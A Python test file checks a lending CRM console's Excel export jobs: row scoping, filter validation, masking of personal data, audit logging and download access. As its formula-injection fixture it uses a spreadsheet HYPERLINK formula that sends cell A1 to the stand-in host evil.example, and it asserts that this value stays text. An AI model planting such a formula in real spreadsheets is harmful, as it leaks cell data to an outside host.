"""Every exportable console list (analytics.export_kinds) through the one export job: the file has the list's own
rows for the same filters and the requester's scope, text that looks like a formula stays text, and only the
requester can download it."""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from analytics import export_jobs
from analytics.models import ExportJob
from core import audit, clock
from core.settings import reset_settings_cache
from crm import customer_queries, pool_service
from crm.models import Customer
from finance import agreements, deposits, settlements
from lending.contracts import mask_name
from postloan import cases
from referral import ledger, payouts
from tests.factories import make_customer, make_org, make_staff
from tests.finance_support import V, make_world, working_agreement
from tests.test_admin_support import console_client, log_in
from tests.test_exports_formula_injection import assert_no_formula_in_xlsx

FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")"


@pytest.fixture(autouse=True)
def _export_dir(tmp_path, monkeypatch):
    monkeypatch.setenv("SCRM_EXPORT_DIR", str(tmp_path / "exports"))
    reset_settings_cache()
    yield
    reset_settings_cache()


def export(session, viewer, kind: str, params: dict) -> tuple[ExportJob, list[tuple]]:
    """Request the job, run the task body as the worker does, and read the file back (header first)."""
    job = export_jobs.request(session, viewer, kind, params)
    assert export_jobs.run(job.id) == "done"
    session.refresh(job)
    path = export_jobs.file_path(job)
    data = path.read_bytes()
    assert_no_formula_in_xlsx(data)  # never a formula element, whatever the cells hold
    rows = list(load_workbook(io.BytesIO(data), read_only=True).worksheets[0].iter_rows(values_only=True))
    assert job.total_rows == job.done_rows == len(rows) - 1
    return job, rows


# --- customers and the public pool ---------------------------------------------------------------------------


@pytest.fixture
def people(session):
    org = make_org(session)
    return {"sales": make_staff(session, department=org["team_a"], data_scope="own"),
            "other": make_staff(session, department=org["team_a"], data_scope="own"),
            "manager": make_staff(session, role="manager", department=org["company"], data_scope="all")}


def test_a_salespersons_customer_export_has_the_lists_rows_own_only(session, people):
    sales, other = people["sales"], people["other"]
    mine = [make_customer(session, owner=sales, name=FORMULA, region="上海", phone="13800001111"),
            make_customer(session, owner=sales, name="李四", region="上海"),
            make_customer(session, owner=sales, name="王五", region="北京")]
    make_customer(session, owner=other, name="别人的", region="上海")
    params = {"region": "上海"}
    listed = customer_queries.search(session, V(sales), customer_queries.filter_from_params(params),
                                     page_size=200).items
    assert {c.id for c in listed} == {mine[0].id, mine[1].id}
    job, rows = export(session, V(sales), "customers", params)
    assert [r[0] for r in rows[1:]] == sorted(c.id for c in listed)
    assert rows[1][1] == FORMULA  # written as text, exactly as typed
    assert rows[1][2] == mine[0].phone_masked and "1111" in rows[1][2] and "13800001111" not in str(rows)
    # the bulk copy of personal data is access-logged with its filters
    logged = session.scalars(select(audit.AuditLog).where(audit.AuditLog.action == "customer.export")).all()
    assert [entry.entity_id for entry in logged] == [str(job.id)]
    # the manager (scope all) gets every 上海 customer with the same filter
    _, everyone = export(session, V(people["manager"]), "customers", params)
    assert len(everyone) - 1 == 3


def test_the_customer_export_applies_the_funnel_and_date_filters_and_refuses_bad_ones(session, people):
    from crm import followups

    sales = people["sales"]
    called = make_customer(session, owner=sales, name="已联系")
    make_customer(session, owner=sales, name="未联系")
    followups.log_followup(session, V(sales), called.id, kind="call", content="电话沟通")
    _, rows = export(session, V(sales), "customers", {"funnel": "contacted"})
    assert [r[1] for r in rows[1:]] == ["已联系"]
    today = clock.today()
    _, rows = export(session, V(sales), "customers", {"created_from": (today + timedelta(days=1)).isoformat()})
    assert rows[1:] == []
    with pytest.raises(Exception, match="录入开始日期格式不正确"):
        export_jobs.request(session, V(sales), "customers", {"created_from": "昨天"})
    with pytest.raises(Exception, match="未知的漏斗环节"):
        export_jobs.request(session, V(sales), "customers", {"funnel": "nope"})


def test_the_pool_export_has_the_pools_rows_with_its_filter(session, people):
    waiting = [make_customer(session, name=FORMULA, region="杭州"), make_customer(session, name="甲", region="杭州"),
               make_customer(session, name="乙", region="苏州")]
    pool_id = waiting[0].pool_id
    filters = pool_service.PoolFilters(region="杭州")
    listed, total = pool_service.pool_customers(session, V(people["sales"]), pool_id, filters, limit=200)
    _, rows = export(session, V(people["sales"]), "pool",
                     {"pool_id": pool_id, **export_jobs.dataclass_params(filters)})
    assert total == 2 and [r[0] for r in rows[1:]] == sorted(c.id for c in listed)
    assert rows[1][1] == FORMULA


# --- finance: agreements, deposits, settlements ----------------------------------------------------------------


@pytest.fixture
def finance_world(session):
    w = make_world(session)
    w.customer.name = FORMULA
    first = working_agreement(session, w)  # a confirmed deposit
    second = agreements.create_agreement(session, __import__("tests.finance_support").finance_support
                                         .agreement_input(w), viewer=V(w.sales))  # still a draft
    s = settlements.record_disbursement(session, first.id, funder_name="=1+1", funder_type="bank",
                                        amount=20_000_000, disbursed_date=None, viewer=V(w.finance))
    session.flush()
    return w, first, second, s


def test_the_agreement_export_has_the_lists_rows_for_its_status_and_the_viewers_scope(session, finance_world):
    w, first, second, _ = finance_world
    listed = agreements.list_agreements(session, V(w.sales), status=first.status, limit=200)
    _, rows = export(session, V(w.sales), "agreements", {"status": first.status})
    assert [r[0] for r in rows[1:]] == [a.number for a, _ in sorted(listed, key=lambda r: r[0].id)] == [first.number]
    assert rows[1][1] == mask_name(FORMULA)
    _, rows = export(session, V(w.sales), "agreements", {})
    assert [r[0] for r in rows[1:]] == [first.number, second.number]
    _, rows = export(session, V(w.other_sales), "agreements", {})  # another team's salesperson: none of them
    assert rows[1:] == []


def test_the_deposit_export_has_the_lists_rows(session, finance_world):
    w, first, _, _ = finance_world
    listed = deposits.deposit_list(session, V(w.finance), held=True, limit=200)
    _, rows = export(session, V(w.finance), "deposits", {"held": True})
    assert [r[0] for r in rows[1:]] == [d.id for d, _, _ in listed] and len(listed) == 1
    assert rows[1][1] == first.number and rows[1][3] == 5000  # yuan, a number
    _, rows = export(session, V(w.finance), "deposits", {"status": "voided"})
    assert rows[1:] == []


def test_the_settlement_export_has_the_lists_rows_and_the_funder_stays_text(session, finance_world):
    w, _, _, s = finance_world
    listed = settlements.list_settlements(session, V(w.finance), status="pending", limit=200)
    _, rows = export(session, V(w.finance), "settlements", {"status": "pending"})
    assert [r[0] for r in rows[1:]] == [row.settlement.id for row in listed] == [s.id]
    assert rows[1][2] == FORMULA and rows[1][4] == "=1+1"
    _, rows = export(session, V(w.finance), "settlements", {"status": "settled"})
    assert rows[1:] == []


# --- collection cases and commission withdrawals -----------------------------------------------------------------


def test_the_case_export_has_the_queues_rows_for_the_collector(session):
    from lending.servicing import cob
    from tests.servicing_support import days, make_loan, on

    w, first = make_loan(session)
    _, second = make_loan(session)
    collectors = [make_staff(session, role="collector", department=w.manager.department, data_scope="own")
                  for _ in range(2)]
    day = first.start_date + days(45)
    on(day)
    cob.run_date(day)
    mine = cases.queue(session, V(collectors[0]), limit=200)
    assert len(mine) == 1
    _, rows = export(session, V(collectors[0]), "cases", {"status": "open"})
    assert [r[0] for r in rows[1:]] == [r.case.id for r in mine]
    _, rows = export(session, V(w.manager), "cases", {"status": "open"})
    assert len(rows) - 1 == 2
    assert second.id


def test_the_withdrawal_export_has_the_lists_rows_for_a_status(session):
    from tests.referral_support import T0, make_agent, principal_rule, referred_customer
    from tests.test_referral_ledger import disburse

    agent = make_agent(session, name=FORMULA)
    principal_rule(session, level2="0")
    disburse(session, referred_customer(session, agent), 1_000_000, at=T0)
    ledger.confirm_due(session, T0 + timedelta(days=31))
    first = payouts.request_withdrawal(session, agent.id, 1_000)
    payouts.request_withdrawal(session, agent.id, 2_000)
    finance = V(make_staff(session, role="finance"))
    payouts.approve(session, finance, first.id)
    listed = payouts.list_withdrawals(session, "requested")
    _, rows = export(session, finance, "withdrawals", {"status": "requested"})
    assert [r[0] for r in rows[1:]] == [w.id for w, _ in listed] and len(listed) == 1
    assert rows[1][1] == FORMULA and rows[1][4] == 20
    _, rows = export(session, finance, "withdrawals", {})
    assert len(rows) - 1 == 2


# --- the console: request with the list's filters, the requester alone downloads -------------------------------


def test_the_console_exports_the_customer_list_with_its_filters_for_its_requester_only(session, people):
    sales = people["sales"]
    make_customer(session, owner=sales, name="上海客户", region="上海")
    make_customer(session, owner=sales, name="北京客户", region="北京")
    make_customer(session, owner=people["other"], name="别人的上海客户", region="上海")
    client = console_client()
    csrf = log_in(client, session, sales)
    page = client.get("/console/customers", params={"region": "上海"}).text
    assert 'action="/console/exports/customers"' in page and 'name="region" value="上海"' in page
    bad = client.post("/console/exports/customers", data={"csrf_token": csrf, "created_to": "下周"})
    assert bad.status_code == 422 and "录入结束日期格式不正确" in bad.text
    assert session.scalars(select(ExportJob)).all() == []  # refused: nothing recorded
    started = client.post("/console/exports/customers", data={"csrf_token": csrf, "region": "上海"},
                          follow_redirects=False)
    assert started.status_code == 303
    job_id = int(started.headers["location"].rsplit("/", 1)[1])
    assert export_jobs.run(job_id) == "done"
    assert "下载 Excel" in client.get(f"/console/exports/{job_id}").text
    file = client.get(f"/console/exports/{job_id}/file")
    rows = list(load_workbook(io.BytesIO(file.content), read_only=True).worksheets[0].iter_rows(values_only=True))
    assert [r[1] for r in rows[1:]] == ["上海客户"]
    other = console_client()
    log_in(other, session, people["other"])
    assert other.get(f"/console/exports/{job_id}").status_code == 404
    assert other.get(f"/console/exports/{job_id}/file").status_code == 404
    assert client.post("/console/exports/nothing", data={"csrf_token": csrf}).status_code == 404


def test_settlements_are_exported_by_finance_only(session, finance_world):
    w, *_ = finance_world
    client = console_client()
    csrf = log_in(client, session, w.sales)
    refused = client.post("/console/exports/settlements", data={"csrf_token": csrf})
    assert refused.status_code == 403
    fin = console_client()
    csrf = log_in(fin, session, w.finance)
    assert 'action="/console/exports/settlements"' in fin.get("/console/finance/settlements").text
    assert fin.post("/console/exports/settlements", data={"csrf_token": csrf, "status": "pending"},
                    follow_redirects=False).status_code == 303
    assert session.scalar(select(ExportJob.params).where(ExportJob.kind == "settlements")) == {"status": "pending"}
    assert Customer  # the model is loaded


def test_the_referrer_export_has_the_lists_rows_with_their_commission_balances(session):
    from referral import referrers
    from tests.referral_support import T0, make_agent, principal_rule, referred_customer
    from tests.test_referral_ledger import disburse

    earning = make_agent(session, name="@渠道甲")
    idle = make_agent(session, name="经纪人乙")
    principal_rule(session, level2="0")
    disburse(session, referred_customer(session, earning), 1_000_000, at=T0)
    ledger.confirm_due(session, T0 + timedelta(days=31))
    payouts.request_withdrawal(session, earning.id, 1_000)
    finance = V(make_staff(session, role="finance"))
    listed = referrers.list_referrers(session, kind="agent")
    _, rows = export(session, finance, "referrers", {"kind": "agent"})
    assert [r[0] for r in rows[1:]] == [r.code for r in sorted(listed, key=lambda r: r.id)]
    assert {earning.code, idle.code} <= {r[0] for r in rows[1:]}
    by_code = {r[0]: r for r in rows[1:]}
    balance = ledger.balances(session, [earning.id])[earning.id]
    assert by_code[earning.code][1] == "@渠道甲"  # text, never a formula
    assert by_code[earning.code][5:8] == (balance.available / 100, balance.pending / 100, 10)  # 提现中 10 元
    assert by_code[idle.code][5] == 0
    _, rows = export(session, finance, "referrers", {"q": "乙"})
    assert [r[1] for r in rows[1:]] == ["经纪人乙"]


# --- the application board, payment orders and reimbursements ----------------------------------------------------


def test_the_application_export_has_the_boards_rows_for_its_filters_and_scope(session):
    from lending import applications
    from tests.lending_flow_support import make_world as lending_world
    from tests.lending_flow_support import start

    w = lending_world(session)
    w.customer.name = FORMULA
    first = start(session, w)
    mine = make_customer(session, owner=w.other_sales, name="钱七")
    second = applications.start_application(session, mine.id, w.version_id, 2_000_000, 12, viewer=V(w.other_sales))
    session.flush()
    board = applications.pipeline(session, V(w.manager))
    listed = sorted(c.application.id for col in board.columns for c in col.cards)
    _, rows = export(session, V(w.manager), "applications", {})
    assert [r[0] for r in rows[1:]] == listed == sorted([first.id, second.id])
    assert rows[1][1] == mask_name(FORMULA) and rows[1][3] == 50_000  # yuan, a number
    # the same owner filter as the board, and a salesperson's own scope
    _, rows = export(session, V(w.manager), "applications", {"owner_id": w.other_sales.id})
    assert [r[0] for r in rows[1:]] == [second.id]
    board = applications.pipeline(session, V(w.sales))
    _, rows = export(session, V(w.sales), "applications", {})
    assert [r[0] for r in rows[1:]] == [c.application.id for col in board.columns for c in col.cards] == [first.id]


def test_the_payment_order_export_has_the_lists_rows_for_its_filters(session):
    from payments import orders, purposes
    from tests.test_admin_support import console_client, log_in

    purposes.register("test.export", "测试用途", lambda session, s: f"noop:{s.out_trade_no}")
    customer = make_customer(session, owner=None, name=FORMULA)
    session.flush()
    paid = orders.create(session, purpose="test.export", obligation_ref="x:1", customer_id=customer.id, amount=12_345,
                         description=FORMULA, method="jsapi")
    debit = orders.create(session, purpose="test.export", obligation_ref="x:2", customer_id=None, amount=500,
                          description="代扣", method="withholding")
    session.flush()
    finance = V(make_staff(session, role="finance", data_scope="all"))
    _, rows = export(session, finance, "payment_orders", {})
    assert [r[0] for r in rows[1:]] == [paid.out_trade_no, debit.out_trade_no]
    assert rows[1][1] == FORMULA and rows[1][5] == mask_name(FORMULA) and rows[1][6] == 123.45
    _, rows = export(session, finance, "payment_orders", {"method": "withholding"})
    assert [r[0] for r in rows[1:]] == [debit.out_trade_no]
    _, rows = export(session, finance, "payment_orders", {"status": "succeeded"})
    assert rows[1:] == []
    # the console: the list carries the button with its filters; a salesperson may not export the orders
    org = make_org(session)
    sales = make_staff(session, department=org["team_a"], data_scope="own")
    client = console_client()
    csrf = log_in(client, session, sales)
    assert client.post("/console/exports/payment_orders", data={"csrf_token": csrf}).status_code == 403


def test_the_reimbursement_export_has_the_lists_rows_for_its_status_and_scope(session, finance_world):
    from finance import reimbursements

    w, first, _, _ = finance_world
    mine = reimbursements.submit(session, agreement_id=first.id, category="交通费", amount=12_000,
                                 viewer=V(w.sales), note=FORMULA)
    theirs = reimbursements.submit(session, agreement_id=first.id, category="交通费", amount=3_000,
                                   viewer=V(w.officer))
    reimbursements.confirm(session, theirs.id, viewer=V(w.finance))
    session.flush()
    listed = reimbursements.listing(session, V(w.finance))
    _, rows = export(session, V(w.finance), "reimbursements", {})
    assert [r[0] for r in rows[1:]] == sorted(row[0].id for row in listed) == [mine.id, theirs.id]
    assert rows[1][2] == first.number and rows[1][3] == "银行" and rows[1][4] == 120 and rows[1][14] == FORMULA
    _, rows = export(session, V(w.finance), "reimbursements", {"status": "confirmed"})
    assert [r[0] for r in rows[1:]] == [theirs.id]
    w.sales.data_scope = "own"
    session.flush()
    own = reimbursements.listing(session, V(w.sales))
    _, rows = export(session, V(w.sales), "reimbursements", {})  # a salesperson: what they entered
    assert [r[0] for r in rows[1:]] == [row[0].id for row in own] == [mine.id]


def test_the_board_payments_and_reimbursements_pages_carry_the_export_button_with_their_filters(session, finance_world):
    w, *_ = finance_world
    client = console_client()
    csrf = log_in(client, session, w.finance)
    board = client.get("/console/lending/applications", params={"owner_id": w.sales.id}).text
    assert 'action="/console/exports/applications"' in board and f'name="owner_id" value="{w.sales.id}"' in board
    orders = client.get("/console/payments/withholding", params={"status": "failed"}).text
    assert 'action="/console/exports/payment_orders"' in orders and 'name="method" value="withholding"' in orders
    assert 'name="status" value="failed"' in orders
    paid = client.get("/console/finance/reimbursements", params={"status": "paid"}).text
    assert 'action="/console/exports/reimbursements"' in paid and 'name="status" value="paid"' in paid
    started = client.post("/console/exports/applications", data={"csrf_token": csrf, "owner_id": str(w.sales.id),
                                                                  "date_from": "2026-11-01"}, follow_redirects=False)
    assert started.status_code == 303
    assert session.scalar(select(ExportJob.params).where(ExportJob.kind == "applications")) == {
        "owner_id": w.sales.id, "date_from": "2026-11-01"}
